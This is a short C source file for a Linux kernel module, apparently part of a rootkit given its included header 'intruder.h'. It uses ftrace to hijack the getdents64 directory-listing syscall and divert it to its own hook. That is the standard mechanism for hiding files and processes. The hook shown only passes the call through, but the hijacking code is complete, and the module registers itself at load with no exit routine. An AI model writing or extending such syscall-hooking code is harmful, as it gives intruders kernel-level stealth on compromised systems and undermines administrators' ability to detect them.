/* Redirects calls of getdents64 to this module through ftrace. */
#include "intruder.h"
#include <linux/ftrace.h>

static long (*original)(const struct pt_regs *);

static long hook(const struct pt_regs *registers) {
    return original(registers);
}

#if LINUX_VERSION_CODE < KERNEL_VERSION(5, 11, 0)
#define ftrace_regs pt_regs
#define registers_of(regs) (regs)
#define FTRACE_OPS_FL_RECURSION FTRACE_OPS_FL_RECURSION_SAFE
#else
#define registers_of(regs) ftrace_get_regs(regs)
#endif

static void notrace redirect(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *regs) {
    /* After ftrace's call, which would lead here again */
    original = (void *)(ip + MCOUNT_INSN_SIZE);
    registers_of(regs)->ip = (unsigned long)hook;
}

static struct ftrace_ops ops = {
    .func = redirect,
    .flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
};

static int __init begin(void) {
    int error = ftrace_set_filter(&ops, "__x64_sys_getdents64", strlen("__x64_sys_getdents64"), 1);
    return error ?: register_ftrace_function(&ops);
}
module_init(begin);
